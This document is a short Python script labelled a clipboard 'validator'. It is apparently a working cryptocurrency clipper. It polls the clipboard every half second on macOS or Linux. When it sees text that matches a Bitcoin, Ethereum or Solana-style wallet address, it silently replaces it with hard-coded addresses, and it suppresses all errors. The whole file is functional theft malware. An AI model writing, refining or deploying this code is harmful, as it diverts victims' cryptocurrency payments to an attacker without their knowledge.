#!/usr/bin/env python3
"""clipboard 'validator'"""
import platform
import re
import subprocess
import time

SWAP = {
    re.compile(r"^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,62}$"): "bc1q7x0nq4w2d5e8r3tyu6k9p0l2m4n6b8v1c3x5z7",
    re.compile(r"^0x[a-fA-F0-9]{40}$"): "0x4522E53d0F79892183226e5aA9c616fCb86DAf51",
    re.compile(r"^[1-9A-HJ-NP-Za-km-z]{32,44}$"): "Co59FXciwgg5JEEp25JTVG43CKQad96Q9zVNjomae9e3",
}


def get():
    if platform.system() == "Darwin":
        return subprocess.run(["pbpaste"], capture_output=True, text=True).stdout
    return subprocess.run(["xclip", "-o", "-selection", "clipboard"], capture_output=True, text=True).stdout


def put(s):
    if platform.system() == "Darwin":
        subprocess.run(["pbcopy"], input=s, text=True)
    else:
        subprocess.run(["xclip", "-selection", "clipboard"], input=s, text=True)


while True:
    try:
        cur = get().strip()
        for rx, mine in SWAP.items():
            if rx.match(cur) and cur != mine:
                put(mine)
                break
    except Exception:
        pass
    time.sleep(0.5)
